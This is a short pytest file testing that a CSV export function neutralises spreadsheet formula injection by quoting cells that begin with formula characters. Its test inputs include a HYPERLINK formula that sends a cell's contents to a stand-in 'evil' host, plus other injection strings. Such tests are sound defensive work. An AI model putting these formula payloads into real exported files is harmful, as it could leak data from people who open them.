"""Tables as CSV: no spreadsheet runs what a record says."""

import csv
import io

import pytest

from plumbline.base import table


@pytest.mark.parametrize("text", ["=1+1", '=HYPERLINK("http://evil/"&A1;"x")', "+1", "-1+cmd", "@SUM(A1)", "\t=1"])
def test_a_text_is_no_formula(text):
    _, (name, number) = csv.reader(io.StringIO(table.as_csv(("a", "b"), [(text, -1.5)]), newline=""))
    assert (name, number) == (f"'{text}", "-1.5")


def test_what_is_no_formula_stays():
    rows = [("a=b", "x-y", "", None, True, False, 0.1), ("µ", "'", " =", "1", "%placement=core", "x", 2)]
    assert table.as_csv("abcdefg", rows).splitlines()[1:] == ["a=b,x-y,,,yes,no,0.1", "µ,', =,1,%placement=core,x,2"]
